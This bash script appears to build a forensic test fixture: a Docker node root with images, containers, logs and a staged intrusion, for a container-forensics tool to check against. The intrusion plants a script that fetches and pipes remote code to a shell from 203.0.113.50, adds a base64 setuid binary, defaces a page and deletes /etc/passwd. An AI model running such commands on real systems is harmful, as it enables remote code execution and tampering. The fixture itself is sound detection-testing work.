#!/usr/bin/env bash
# Builds a node root with REAL Docker evidence: OUT/var/lib/docker (overlay2) with an image built on the node
# in several layers (one with a risky build step), a running web container with Kubernetes-style labels, an
# intrusion acted out in it, a removed container's image left behind, and a container that replaced an image
# directory (an opaque directory) and hard-linked a file in its own layer. Also writes the engine's own view
# (docker ps/images/history/diff/logs) beside it for tests to compare against.
# Needs root, dockerd (docker.io), umoci, skopeo, busybox-static (Debian). No network.
#   usage: docker-node.sh OUT
set -euo pipefail
out=$(realpath -m "$1")
work=$(mktemp -d /tmp/eksir-docker.XXXXXX)
sock="$work/docker.sock"
pid=""
export DOCKER_HOST="unix://$sock" DOCKER_BUILDKIT=0

cleanup() {
  set +e
  if [ -n "$pid" ]; then
    docker ps -q | xargs -r docker kill >/dev/null 2>&1
    kill "$pid" 2>/dev/null
    for _ in $(seq 1 100); do kill -0 "$pid" 2>/dev/null || break; sleep 0.1; done
  fi
  grep -o " $work[^ ]*\| $out/var/lib/docker[^ ]*" /proc/mounts | sort -r | xargs -r -n1 umount -l 2>/dev/null
  rm -rf "$work"
}
trap cleanup EXIT

mkdir -p "$out/var/lib/docker" "$work/exec" "$work/build"

# Base image from busybox-static, as in containerd-node.sh.
(
  cd "$work"
  umoci init --layout img >/dev/null
  umoci new --image img:1.0
  umoci unpack --rootless --image img:1.0 bundle >/dev/null
  mkdir -p bundle/rootfs/bin bundle/rootfs/etc bundle/rootfs/tmp bundle/rootfs/var/www bundle/rootfs/usr/local/bin
  cp /bin/busybox bundle/rootfs/bin/busybox
  for app in sh ls cat echo sleep rm chmod mkdir base64 wget httpd; do ln -s busybox "bundle/rootfs/bin/$app"; done
  # As busybox images ship it: applets as hard links of the one binary (the layer holds its bytes once).
  for app in head tr ln grep sed awk tar gzip find id; do ln bundle/rootfs/bin/busybox "bundle/rootfs/bin/$app"; done
  mkdir -p bundle/rootfs/opt/app/lib
  printf 'listen=8080\n' > bundle/rootfs/opt/app/app.conf
  printf 'not really a library\n' > bundle/rootfs/opt/app/lib/libapp.so
  printf 'root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534:nobody:/:/bin/false\n' > bundle/rootfs/etc/passwd
  umoci repack --image img:1.0 bundle >/dev/null
  skopeo copy --quiet oci:img:1.0 docker-archive:base.tar:registry.example/base:1.0
)

setsid dockerd --data-root "$out/var/lib/docker" --exec-root "$work/exec" -H "unix://$sock" --pidfile "$work/docker.pid" \
  --iptables=false --ip-masq=false --bridge=none --storage-driver overlay2 --log-driver json-file >"$work/dockerd.log" 2>&1 &
pid=$!
for _ in $(seq 1 150); do docker version >/dev/null 2>&1 && break; sleep 0.2; done
docker version >/dev/null

docker load -q -i "$work/base.tar" >/dev/null

cat > "$work/build/Dockerfile" <<'DOCKERFILE'
FROM registry.example/base:1.0
RUN mkdir -p /var/www && echo '<h1>shop</h1>' > /var/www/index.html
RUN echo 'IyEvYmluL3NoCmVjaG8gdXBkYXRlcgo=' | base64 -d > /usr/local/bin/updater && chmod 4755 /usr/local/bin/updater
ENV APP_ENV=prod
CMD ["/bin/sh", "-c", "echo 'shop-web 2.1 listening on :8080'; echo 'warning: APP_ENV=prod but debug handler enabled' >&2; exec httpd -f -v -p 8080 -h /var/www"]
DOCKERFILE
docker build -q --network none -t registry.example/shop-web:2.1 "$work/build" >/dev/null

# A container that ran and was removed: its image stays (no container uses it).
docker run --network none --name oneoff registry.example/base:1.0 /bin/sh -c 'echo hello from oneoff' >/dev/null
docker rm oneoff >/dev/null
docker tag registry.example/base:1.0 registry.example/tools:0.3 >/dev/null

# A container that replaced an image directory: /opt/app removed and made again (an opaque directory in its layer,
# hiding the image's app.conf and lib/libapp.so), with a file hard-linked three times (its bytes held once).
docker run --network none --name replaced registry.example/shop-web:2.1 /bin/sh -c \
  'rm -rf /opt/app && mkdir -p /opt/app/lib && echo x > /opt/app/x && head -c 50000 /dev/zero > /opt/app/lib/big && ln /opt/app/lib/big /opt/app/lib/big2 && ln /opt/app/lib/big /opt/app/big3' >/dev/null

# A batch job logging with the 'local' driver (protobuf frames), with a message longer than 16 KiB (split into
# partial entries) and one on stderr.
docker run -d --network none --log-driver local --name batch registry.example/shop-web:2.1 /bin/sh -c \
  'echo batch starting; echo "batch: cannot reach 203.0.113.50" >&2; /bin/busybox head -c 40000 /dev/zero | /bin/busybox tr "\\0" B; echo; echo batch done' >/dev/null
docker wait batch >/dev/null

docker run -d --network none --pid host --cap-add SYS_PTRACE -v /var/log:/host/var/log:ro --name k8s_web_shop-7d9f_default_9b2e6c4a-1d3f-4e5a-8b7c-6d5e4f3a2b1c_0 \
  --label io.kubernetes.pod.name=shop-7d9f --label io.kubernetes.pod.namespace=default \
  --label io.kubernetes.pod.uid=9b2e6c4a-1d3f-4e5a-8b7c-6d5e4f3a2b1c --label io.kubernetes.container.name=web \
  registry.example/shop-web:2.1 >/dev/null
web=k8s_web_shop-7d9f_default_9b2e6c4a-1d3f-4e5a-8b7c-6d5e4f3a2b1c_0
docker exec "$web" /bin/sh -c '
  mkdir -p /tmp/.cache && printf "#!/bin/sh\nwget -q -O- http://203.0.113.50/p | sh\n" > /tmp/.cache/run.sh && chmod 755 /tmp/.cache/run.sh
  echo "<h1>owned</h1>" > /var/www/index.html
  rm /etc/passwd
'
docker exec "$web" /bin/sh -c 'echo "intruder was here"' >/dev/null

docker stop -t 1 "$web" >/dev/null

# The node's package database, as on a Debian node, so the engine versions can be read from the disk.
mkdir -p "$out/var/lib/dpkg"
dpkg-query -s docker.io containerd runc > "$out/var/lib/dpkg/status" 2>/dev/null || true

# The engine's own view of the stopped node, for tests to compare against.
docker ps -a --no-trunc --format '{{json .}}' > "$out/.docker-ps.jsonl"
docker images -a --no-trunc --format '{{json .}}' > "$out/.docker-images.jsonl"
docker history --no-trunc --format '{{json .}}' registry.example/shop-web:2.1 > "$out/.docker-history.jsonl"
docker diff "$web" > "$out/.docker-diff.txt"
docker diff replaced > "$out/.docker-diff-replaced.txt"
docker inspect --size replaced > "$out/.docker-inspect-replaced.json"
docker logs "$web" > "$out/.docker-logs-stdout.txt" 2> "$out/.docker-logs-stderr.txt"
docker inspect "$web" > "$out/.docker-inspect.json"
docker logs batch > "$out/.docker-local-logs-stdout.txt" 2> "$out/.docker-local-logs-stderr.txt"

kill "$pid"
for _ in $(seq 1 100); do kill -0 "$pid" 2>/dev/null || break; sleep 0.1; done
pid=""
echo "node root with Docker evidence: $out" >&2
